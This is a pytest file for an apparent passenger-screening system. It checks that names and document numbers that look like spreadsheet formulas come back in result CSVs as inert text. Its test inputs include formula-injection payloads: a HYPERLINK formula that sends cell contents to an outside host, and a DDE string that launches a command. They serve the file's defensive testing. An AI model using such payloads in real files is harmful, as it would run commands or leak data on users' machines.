"""Passenger lists: results that a spreadsheet cannot run, and lists that cannot be read refused whole."""

from __future__ import annotations

import csv
import io
import threading
from pathlib import Path

import pytest
from typer.testing import CliRunner

from polnet import cli as polnet_cli
from polnet.screening import batch_files
from polnet.screening.models import ScreeningBatch
from tests.factories import Network, make_record, signed_in_client

# Names a spreadsheet would run (a name needs a letter: "-1+1" alone is refused, not echoed).
FORMULAS = ['=HYPERLINK("https://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "-1+1 A", "@SUM(1+1)"]


def _passengers_csv(names: list[str]) -> bytes:
    out = io.StringIO(newline="")
    rows = csv.writer(out)
    rows.writerow(["name", "date_of_birth", "document_number"])
    rows.writerows([name, "1974-08-12", name] for name in names)
    return out.getvalue().encode()


def _finished(batch_id: int) -> ScreeningBatch:
    """The list once its own thread is through (joined, not waited for)."""
    for thread in threading.enumerate():
        if thread.name == f"batch-{batch_id}":
            thread.join(timeout=120)
    return ScreeningBatch.objects.get(pk=batch_id)


@pytest.mark.django_db(transaction=True)
def test_the_results_of_a_list_write_formulas_as_text_and_still_resume(net: Network) -> None:
    make_record(net.actor("FR-officer"), "person")  # Ivan Ivanov, born 1974-08-12
    client = signed_in_client(net.users["DE-unit-full"])
    upload = io.BytesIO(_passengers_csv([*FORMULAS, "Ivan Ivanov"]))
    upload.name = "list.csv"

    r = client.post("/api/screening/batches", {"file": upload})

    assert r.status_code == 202, r.content
    batch = _finished(r.json()["id"])
    assert batch.status == "done", batch.error
    results = client.get(f"/api/screening/batches/{batch.pk}/results.csv")
    written = list(csv.DictReader(io.StringIO(b"".join(results.streaming_content).decode())))  # type: ignore[attr-defined]
    assert [row["name"] for row in written] == [f"'{f}" for f in FORMULAS] + ["Ivan Ivanov"]
    assert [row["document_number"] for row in written[:4]] == [f"'{f}" for f in FORMULAS]
    assert [row["row"] for row in written] == ["1", "2", "3", "4", "5"]
    # The file is also the record of the rows done: read back, it counts them all.
    assert batch_files.completed_rows(batch_files.results_path(batch.pk)) == (5, 1)


@pytest.mark.django_db
def test_polnet_screen_file_writes_formulas_as_text(net: Network, tmp_path: Path) -> None:
    passengers = tmp_path / "passengers.csv"
    passengers.write_bytes(_passengers_csv(FORMULAS))
    out = tmp_path / "results.csv"

    result = CliRunner().invoke(
        polnet_cli.app, ["screen", "--as", "de-unit-full", "--file", str(passengers), "--out", str(out)]
    )

    assert result.exit_code == 0, result.output
    written = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [row["name"] for row in written] == [f"'{f}" for f in FORMULAS]
